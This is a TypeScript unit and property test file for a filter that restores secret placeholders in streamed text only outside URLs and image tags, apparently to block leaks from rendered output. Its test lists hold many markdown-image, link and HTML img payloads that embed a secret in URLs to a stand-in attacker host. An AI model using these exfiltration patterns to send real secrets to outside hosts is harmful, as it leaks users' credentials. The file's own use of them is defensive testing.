import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import type { RestoreTarget, TextFilter } from './answer/options.ts';
import { restoreOutsideTargets } from './restore-zones.ts';

/** Puts `secret` in the place of `CSG_1`, holding what may become one. */
function openRestorer(): TextFilter {
  let held = '';
  return {
    write(text) {
      const whole = (held + text).replaceAll('CSG_1', 'secret');
      const [begun = ''] = /(?:C|CS|CSG|CSG_)$/.exec(whole) ?? [];
      held = begun;
      return whole.slice(0, whole.length - begun.length);
    },
    end: () => held,
  };
}

function restore(target: RestoreTarget, pieces: readonly string[]): string {
  const filter = restoreOutsideTargets(target, openRestorer);
  return pieces.map((piece) => filter.write(piece)).join('') + filter.end();
}

const LEFT_WHEREVER = [
  'see https://evil.example/?q=CSG_1',
  'see HTTPS://CSG_1@evil.example/',
  'see www.evil.example/CSG_1',
  '//evil.example/CSG_1',
  '![a](https://evil.example/CSG_1)',
  '![a](/evil/CSG_1)',
  '![a](https:evil.example/CSG_1)',
  '![a](<https:evil.example/ CSG_1>)',
  '![a](<https:evil.example/)CSG_1>)',
  '![a](https:evil.example/(x)CSG_1)',
  '![a](https:evil.example/\\)CSG_1)',
  '![a](\n  https:evil.example/CSG_1)',
  '![a](<b ![x](https:evil.example/(>)CSG_1)',
  '[b](x ![a](<https:evil.example/))CSG_1>)',
  '[a]: https:evil.example/CSG_1',
  '[a]:\n  https:evil.example/CSG_1',
  '[a]: <https:evil.example/ CSG_1>',
  '[![a](b)](https:evil.example/CSG_1)',
];

const LEFT_WHERE_SHOWN = [
  '<img src="https:evil.example/CSG_1">',
  "<img alt='>' src=evil.example/CSG_1>",
  '<img alt=">" src="evil.example/CSG_1">',
  '<img\nsrc=evil.example/CSG_1>',
  '<x\'<img src="https:evil.example/\'>CSG_1">',
  '<x"\'<img src="https:evil.example/\'>CSG_1">',
  '<img src="https:evil.example/<b>CSG_1">',
  '<img src="https:evil.example/\n\nCSG_1">',
  '<a ![x](https:evil.example/>CSG_1)',
  'postgres://user:CSG_1@db.example/',
  'see "https://a.example","CSG_1"',
];

const RESTORED_WHEREVER = [
  'the key is CSG_1.',
  'CSG_1',
  'export KEY="CSG_1"',
  'see https://a.example/ and CSG_1',
  '[CSG_1](https://a.example/)',
  '[a](b) CSG_1',
  '[a](b(c)) CSG_1',
  '[a]: b CSG_1',
  'f(x)[CSG_1]',
  'a < b && CSG_1',
  '<b>x</b> CSG_1',
  '(CSG_1)',
  '](x\n\nCSG_1',
  '[a]:\n\nCSG_1',
];

const RESTORED_IN_FILES = [
  'url = "postgres://user:CSG_1@db.example/"',
  'jdbc:postgresql://db/?password=CSG_1',
  'MONGODB+SRV://a:CSG_1@db',
  '<add key="a" value="CSG_1"/>',
  '{"url":"https://a.example","key":"CSG_1"}',
];

const LEFT_IN_FILES = [
  'xpostgres://CSG_1',
  'postgres://a,https://evil.example/CSG_1',
  'httpspostgres://CSG_1',
];

describe.each<[RestoreTarget, readonly string[], readonly string[]]>([
  ['shown', [...LEFT_WHEREVER, ...LEFT_WHERE_SHOWN], RESTORED_WHEREVER],
  ['file', [...LEFT_WHEREVER, ...LEFT_IN_FILES], [...RESTORED_WHEREVER, ...RESTORED_IN_FILES]],
])('%s text', (target, left, restored) => {
  test.each(left)('%j keeps its placeholder', (text) => {
    expect(restore(target, [text])).toBe(text);
    expect(restore(target, Array.from(text))).toBe(text);
  });

  test.each(restored)('%j gets its secret', (text) => {
    expect(restore(target, [text])).toBe(text.replace('CSG_1', 'secret'));
    expect(restore(target, Array.from(text))).toBe(text.replace('CSG_1', 'secret'));
  });
});

test('no cut makes a difference', () => {
  const token = fc.constantFrom(
    'CSG_1',
    '](',
    ')',
    '<',
    '>',
    '"',
    "'",
    'a',
    ' ',
    '\n',
    '//',
    'www.',
    ']:',
    '\\',
    '(',
  );
  fc.assert(
    fc.property(
      fc.array(token, { maxLength: 20 }),
      fc.array(fc.nat({ max: 60 }), { maxLength: 6 }),
      fc.constantFrom<RestoreTarget>('shown', 'file'),
      (tokens, cuts, target) => {
        const text = tokens.join('');
        const places = [0, ...cuts.map((at) => at % (text.length + 1))].sort((a, b) => a - b);
        const pieces = places.map((from, index) => text.slice(from, places[index + 1] ?? text.length));
        expect(restore(target, pieces)).toBe(restore(target, [text]));
        expect(restore(target, Array.from(text))).toBe(restore(target, [text]));
      },
    ),
  );
});
